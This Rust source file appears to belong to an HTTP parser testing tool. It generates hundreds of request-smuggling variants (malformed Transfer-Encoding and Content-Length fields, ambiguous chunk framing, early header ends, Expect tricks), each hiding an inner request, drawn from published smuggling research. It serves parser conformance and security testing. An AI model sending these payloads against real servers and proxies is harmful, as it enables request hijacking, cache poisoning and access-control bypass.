//! Smuggling variants, generated from the facts of the public lists: which field is disguised, how, and what follows.
//!
//! | source | what it adds |
//! |---|---|
//! | smuggler (Evan Custodio), `default`, `doubles`, `exhaustive` | `Transfer-Encoding` with one or two odd bytes at each joint, wrapped in other fields |
//! | HTTP Request Smuggler (PortSwigger) | disguises of lengths and codings, hidden pairs, early ends of the head, `Expect` |
//! | "HTTP/1.1 must die" (James Kettle, 2025) | 0.CL, CL.0, `Expect`-based variants |
//! | "Funky chunks" (Jeppe Bonde Weikop, 2025) | TERM.EXT, EXT.TERM, TERM.SPILL, SPILL.TERM, ONE.TWO … |
//! | HTTP Garden (Ben Kallus and others) | chunk sizes, versions, junk in heads, pipelines |
//! | Http11Probe (MDA2AV) | request lines, trailers, chunk extensions |
//!
//! Every variant ends with a request `/end` that closes the connection, so that what became of the bytes before is seen.

/// One stream of bytes to send. Its [`id`] stands in every target.
pub struct Variant {
    pub name: String,
    pub bytes: Vec<u8>,
}

/// A request that the attacker wants to be seen although it was framed as something else.
const INNER: &str = "GET /smuggled{n} HTTP/1.1\r\nHost: a.test\r\n\r\n";
const END: &str = "GET /end{n} HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n";
const POST: &str = "POST /first{n} HTTP/1.1\r\nHost: a.test\r\n";

pub fn all() -> Vec<Variant> {
    let mut list = List(Vec::new());
    for (n, field) in joints("Transfer-Encoding", "chunked").iter().enumerate() {
        // They are many, so they take turns at the places; what stands in the lists by name comes to each.
        list.coding(field, n % 3);
    }
    for field in &listed("codings") {
        (0..3).for_each(|place| list.coding(field, place));
    }
    for value in listed("lengths") {
        list.length(&[b"Content-Length: ", &value[..]].concat());
    }
    for lines in listed("lines with a length") {
        list.length(&lines);
    }
    for field in joints("Content-Length", "{length}").iter().step_by(5) {
        list.length(field);
    }
    list.early_ends();
    list.chunks();
    list.request_lines();
    list.expectations();
    for request in listed("framed without doubt") {
        for times in [1, 2, 5] {
            list.add(&[&request.repeat(times)]);
        }
    }
    list.0
}

/// Names the variant with this number; as long as the `{n}` that it replaces, so that lengths stay.
pub fn id(number: usize) -> String {
    let digit =
        |place: usize| char::from_digit((number / place % 36) as u32, 36).unwrap_or_default();
    assert!(number < 36 * 36 * 36, "three digits name every variant");
    [36 * 36, 36, 1].map(digit).iter().collect()
}

struct List(Vec<Variant>);

impl List {
    /// A variant of these parts and the request that ends each.
    fn add(&mut self, parts: &[&[u8]]) {
        let id = id(self.0.len());
        let bytes = fill(
            &[&parts.concat(), END.as_bytes()].concat(),
            "{inner}",
            INNER,
        );
        let bytes = fill(&bytes, "{length}", &INNER.len().to_string());
        let bytes = fill(&bytes, "{size}", &format!("{:x}", INNER.len()));
        let bytes = fill(&bytes, "{n}", &id);
        let name = bytes.escape_ascii().to_string();
        self.0.push(Variant { name, bytes });
    }

    /// A disguised coding beside a length, beside a length that is too small, beside none and beside 0.
    fn coding(&mut self, field: &[u8], place: usize) {
        let outer = format!("0\r\n\r\n{INNER}");
        let chunk = "{size}\r\n{inner}\r\n0\r\n\r\n";
        for (length, body) in [
            (Some(outer.len()), &*outer),
            (Some(4), chunk),
            (None, chunk),
            (Some(0), chunk),
        ] {
            let length = length.map_or(String::new(), |n| format!("Content-Length: {n}\r\n"));
            let (host, length) = (&b"Host: a.test\r\n"[..], length.as_bytes());
            let line = [field, b"\r\n"].concat();
            let fields = match place {
                0 => [&line, host, length],
                1 => [host, &line, length],
                _ => [host, length, &line],
            };
            let start = b"POST /first{n} HTTP/1.1\r\n";
            self.add(&[start, &fields.concat(), b"\r\n", body.as_bytes()]);
        }
    }

    /// A disguised length before a body that is a request, alone and beside other fields.
    fn length(&mut self, lines: &[u8]) {
        for method in ["POST", "GET", "HEAD", "OPTIONS", "DELETE"] {
            for (before, after) in [
                ("", ""),
                ("", "Content-Length: 0\r\n"),
                ("Content-Length: 0\r\n", ""),
                ("X: y\r\n", "Host: b.test\r\n"),
                ("Connection: Content-Length\r\n", ""),
                ("Connection: close\r\n", ""),
            ] {
                let start = format!("{method} /first{{n}} HTTP/1.1\r\nHost: a.test\r\n{before}");
                let end = format!("\r\n{after}\r\n{INNER}");
                self.add(&[start.as_bytes(), lines, end.as_bytes()]);
            }
        }
    }

    /// Heads that sloppy readers end early, and what then becomes a field or not.
    fn early_ends(&mut self) {
        for end in &listed("early ends") {
            for field in [
                "Content-Length: {length}",
                "Content-Length: Z",
                "Transfer-Encoding: chunked",
                "Host: b.test",
                "Expect: 100-continue",
            ] {
                for method in ["GET", "POST"] {
                    let start = format!("{method} /first{{n}} HTTP/1.1\r\nHost: a.test\r\n");
                    let rest = format!("A: B\r\n{field}\r\n\r\n{INNER}");
                    self.add(&[start.as_bytes(), end, rest.as_bytes()]);
                }
            }
        }
    }

    /// Chunked bodies whose framing has two readings.
    fn chunks(&mut self) {
        let mut bodies = listed("broken bodies");
        for body in listed("chunked bodies") {
            for end in listed("ends of lines") {
                bodies.push(fill(
                    &body,
                    "{end}",
                    std::str::from_utf8(&end).expect("ASCII"),
                ));
            }
        }
        for size in listed("chunk sizes") {
            bodies.push([&size[..], b"\r\nAAAAA\r\n0\r\n\r\n{inner}"].concat());
            bodies.push([b"5\r\nAAAAA\r\n", &size[..], b"\r\n\r\n{inner}"].concat());
        }
        for trailer in listed("trailers") {
            for last in ["0", "00", "0;x"] {
                let start = format!("5\r\nAAAAA\r\n{last}\r\n");
                bodies.push([start.as_bytes(), &trailer, b"\r\n\r\n{inner}"].concat());
            }
        }
        for body in bodies {
            self.add(&[
                POST.as_bytes(),
                b"Transfer-Encoding: chunked\r\n\r\n",
                &body,
            ]);
        }
    }

    fn request_lines(&mut self) {
        let length = b"\r\nHost: a.test\r\nContent-Length: 5\r\n\r\nhello";
        let chunked =
            b"\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n";
        for line in &listed("request lines") {
            self.add(&[line, length]);
            self.add(&[line, chunked]);
            let before = b"GET /first{n} HTTP/1.1\r\nHost: a.test\r\n\r\n";
            self.add(&[before, line, length]);
        }
    }

    fn expectations(&mut self) {
        for field in &listed("expectations") {
            for method in ["GET", "POST", "HEAD", "OPTIONS"] {
                for (framing, body) in [
                    ("Content-Length: {length}", "{inner}"),
                    ("Content-Length: 0", "{inner}"),
                    ("Transfer-Encoding: chunked", "0\r\n\r\n{inner}"),
                ] {
                    let start =
                        format!("{method} /first{{n}} HTTP/1.1\r\nHost: a.test\r\n{framing}\r\n");
                    self.add(&[start.as_bytes(), field, b"\r\n\r\n", body.as_bytes()]);
                }
            }
        }
    }
}

/// A field with one or two odd bytes at each of its joints, with each byte that the lists try.
fn joints(name: &str, value: &str) -> Vec<Vec<u8>> {
    let (name, value) = (name.as_bytes(), value.as_bytes());
    let mut all = Vec::new();
    for byte in (0..=0x20).chain(0x7f..=0xff) {
        let b = &[byte][..];
        let none = &b""[..];
        let blank = &b" "[..];
        for (before, behind, between, after) in [
            (none, none, b, none),
            (none, b, blank, none),
            (b, none, blank, none),
            (none, none, blank, b),
            (b, b, blank, none),
            (b, none, b, none),
            (b, none, blank, b),
            (none, b, b, none),
            (none, b, blank, b),
            (none, none, b, b),
        ] {
            all.push([before, name, behind, b":", between, value, after].concat());
        }
        let is_control = byte <= b' ' || byte == 0x7f || byte == 0xa0 || byte == 0xff;
        if is_control {
            let line = &*[name, b": ", value].concat();
            all.push([b"X: X", b, line].concat());
            all.push([line, b, b"X: X"].concat());
            all.push([b"X: X\r", b, line].concat());
            all.push([b"X: X", b, b"\n", line].concat());
            all.push([line, b"\r", b, b"X: X"].concat());
            all.push([line, b, b"\nX: X"].concat());
        }
    }
    all
}

/// A section of the lists.
fn listed(section: &str) -> Vec<Vec<u8>> {
    let all = include_str!("variants.txt");
    let (_, rest) = all
        .split_once(&format!("\n[{section}]\n"))
        .expect("a section");
    let lines = rest.lines().take_while(|line| !line.is_empty());
    lines.map(unescape).collect()
}

fn unescape(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut rest = text.bytes();
    while let Some(byte) = rest.next() {
        if byte != b'\\' {
            bytes.push(byte);
            continue;
        }
        match rest.next().expect("an escape") {
            b'r' => bytes.push(b'\r'),
            b'n' => bytes.push(b'\n'),
            b't' => bytes.push(b'\t'),
            b'0' => bytes.push(0),
            b'\\' => bytes.push(b'\\'),
            b'e' => {}
            b'x' => {
                let digits: String = rest.by_ref().take(2).map(char::from).collect();
                bytes.push(u8::from_str_radix(&digits, 16).expect("two digits"));
            }
            other => panic!("an unknown escape in {text:?}: {other}"),
        }
    }
    bytes
}

/// Replaces every `from` in `text`.
fn fill(text: &[u8], from: &str, to: &str) -> Vec<u8> {
    let mut filled = Vec::with_capacity(text.len() + to.len());
    let mut rest = text;
    while let Some(at) = rest
        .windows(from.len())
        .position(|part| part == from.as_bytes())
    {
        filled.extend_from_slice(&rest[..at]);
        filled.extend_from_slice(to.as_bytes());
        rest = &rest[at + from.len()..];
    }
    filled.extend_from_slice(rest);
    filled
}
